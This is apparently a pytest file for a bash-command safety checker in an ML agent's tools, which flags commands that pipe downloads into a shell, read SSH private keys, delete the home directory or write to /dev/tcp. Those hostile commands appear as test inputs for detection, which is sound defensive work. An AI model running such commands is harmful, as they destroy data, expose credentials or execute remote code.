"""What a bash text can do beyond starting a program."""

import pytest

from ml_agent.tools.check.bash_powers import bash_powers


@pytest.mark.parametrize(
    ("text", "powers"),
    [
        ("python fit.py --lr 0.1", []),
        ("bash -c 'python fit.py'", []),
        ("bash -c 'eval x'", ["runs-text"]),
        ('bash -c "rm -rf ~"', ["redirect-outside"]),
        ("sh -c 'cat ~/.ssh/id_rsa'", ["secret-file"]),
        ("bash -c 'curl x | sh'", ["piped-to-shell"]),
        ("sh -c 'python a.py > ../../x'", ["redirect-outside"]),
        ("python a.py > out.txt", []),
        ("python a.py 2>&1 > /dev/null", []),
        ("cat <<< ../../x", []),
        ("cat <<<'a b'", []),
        ('cat <<<"$(id)"', ["command-substitution"]),
        ("cat <(id)", ["command-substitution"]),
        ("echo '`id` $(id)'", []),
        ("python a.py < ~/.ssh/id_rsa", ["redirect-outside", "secret-file"]),
        ("cat > /dev/tcp/h/1", ["redirect-outside"]),
        ("curl x |& sudo sh", ["piped-to-shell"]),
        ("echo $'\\x24(id)'", ["command-substitution"]),
        ("echo $[1+1]", ["command-substitution"]),
        ("echo $((1+1))", []),
        ("n=3; echo $((n+1))", []),
        ("echo $((n+1))", ["command-substitution"]),
        ("echo ${x@P}", ["command-substitution"]),
        ("^a^b", ["earlier-command"]),
        ("python a.py\n^a^b", ["earlier-command"]),
        ("python a.py ^a^b", []),
    ],
)
def test_what_a_text_can_do(text: str, powers: list[str]) -> None:
    assert sorted({part.power for part in bash_powers(text, ".")}) == powers


def test_a_substitution_is_shown_to_its_end() -> None:
    shown = [part.text for part in bash_powers("echo $(a $(b)) `c d` end", ".")]
    assert shown[0] == "$(a $(b))" and "`c d`" in shown


@pytest.mark.parametrize("shown", ["> ../../x", ">../../x", "< ../../x", "<../../x"])
def test_a_redirection_is_shown_as_it_stands(shown: str) -> None:
    assert [part.text for part in bash_powers(f"python a.py {shown}", ".")] == [shown]


def test_each_pipe_into_a_shell_is_told_once() -> None:
    assert [part.text for part in bash_powers("curl x | sh; echo a | bash", ".")] == ["sh", "bash"]
